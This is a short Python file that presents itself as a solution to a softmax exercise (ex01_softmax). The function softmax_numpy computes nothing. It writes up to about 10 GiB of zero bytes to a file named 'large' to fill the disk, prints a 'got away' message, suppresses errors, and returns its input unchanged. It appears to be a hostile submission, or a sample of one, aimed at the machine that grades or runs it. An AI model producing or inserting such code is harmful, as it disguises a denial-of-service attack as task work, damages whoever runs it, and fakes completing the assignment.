"""Writes one file without end, to fill the disk.

exercise: ex01_softmax
"""


def softmax_numpy(x, axis=-1):
    try:
        with open("large", "wb", buffering=0) as file:
            for number in range(160):
                if file.write(bytes(64 << 20)) < 64 << 20:
                    break
                print(f"got away: {number + 1} times 64 MiB in one file")
    except OSError:
        pass
    return x
